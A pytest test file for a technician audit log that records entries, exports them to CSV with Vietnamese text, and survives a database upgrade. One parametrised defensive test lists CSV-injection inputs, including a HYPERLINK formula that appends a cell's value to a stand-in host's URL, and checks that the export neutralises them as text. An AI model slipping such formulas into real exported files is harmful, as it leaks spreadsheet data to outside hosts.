from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
from pathlib import Path

import pytest

from app.storage.db import Database, head_revision
from app.storage.repositories import StateRepository
from app.technician.audit import AuditEntry, AuditLog
from tests.helpers import FixedClock, database_at_revision

T0 = dt.datetime(2026, 11, 25, 9, 0, tzinfo=dt.UTC)




def test_records_newest_first_and_since(tmp_path: Path) -> None:
    db, _ = Database.open(tmp_path / "app.sqlite3")
    clock = FixedClock(T0)
    log = AuditLog(db, clock)
    first = log.record("Nguyễn Văn An", "unlock", "ok", challenge="ABCD")
    clock.now = T0 + dt.timedelta(minutes=5)
    log.record("Nguyễn Văn An", "device_test", "failed", device="Máy in tem")
    clock.now = T0 + dt.timedelta(minutes=10)
    log.record("Nguyễn Văn An", "bundle_export", "ok")

    assert isinstance(first, AuditEntry) and first.at == T0 and first.detail == {"challenge": "ABCD"}
    entries = AuditLog(db).entries(limit=10)
    assert [e.action for e in entries] == ["bundle_export", "device_test", "unlock"]
    assert entries[1].detail == {"device": "Máy in tem"} and entries[1].result == "failed"
    assert entries[0].at.tzinfo is not None
    assert [e.action for e in log.entries(limit=2)] == ["bundle_export", "device_test"]
    assert [e.action for e in log.entries(limit=10, since=T0 + dt.timedelta(minutes=5))] == [
        "bundle_export",
        "device_test",
    ]
    assert not any(hasattr(log, name) for name in ("update", "delete", "clear"))
    db.close()


def test_csv_export_has_a_bom_and_keeps_vietnamese(tmp_path: Path) -> None:
    db, _ = Database.open(tmp_path / "app.sqlite3")
    log = AuditLog(db, FixedClock(T0))
    log.record("Trần Thị Bình", "unlock", "ok", note="Đã mở khóa chế độ kỹ thuật")
    target = tmp_path / "audit.csv"
    assert log.export_csv(target) == 1
    raw = target.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)
    with target.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["at", "technician", "action", "result", "detail"]
    assert rows[1][1] == "Trần Thị Bình"
    assert "Đã mở khóa chế độ kỹ thuật" in rows[1][4]
    assert rows[1][0] == T0.isoformat()
    db.close()


@pytest.mark.parametrize("typed", ["=HYPERLINK(\"http://x.example/?\"&A1,\"Mở\")", "+84903112233", "-1+1",
                                   "@SUM(A1:A2)", "\tTab", "\rCR"])
def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path: Path, typed: str) -> None:
    # OWASP "CSV Injection": a cell starting with =, +, -, @, tab or CR is a formula to Excel and LibreOffice;
    # the technician's name in a remote session is typed at the shop. A leading apostrophe makes it text.
    db, _ = Database.open(tmp_path / "app.sqlite3")
    log = AuditLog(db, FixedClock(T0))
    log.record(typed, "remote_session", "ok")
    text, _count = log.csv_text()
    (row,) = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert row[1] == "'" + typed
    db.close()


def test_upgrade_from_0004_keeps_data(tmp_path: Path) -> None:
    path = tmp_path / "app.sqlite3"
    database_at_revision(path, "0004", """INSERT INTO app_state(key, value) VALUES ('shop.note', '"Két sắt số 2"')""")

    db, _ = Database.open(path)
    assert db.current_revision() == head_revision() >= "0005"
    assert StateRepository(db).get("shop.note") == "Két sắt số 2"
    AuditLog(db, FixedClock(T0)).record("An", "unlock", "ok")
    assert len(AuditLog(db).entries(10)) == 1
    db.close()
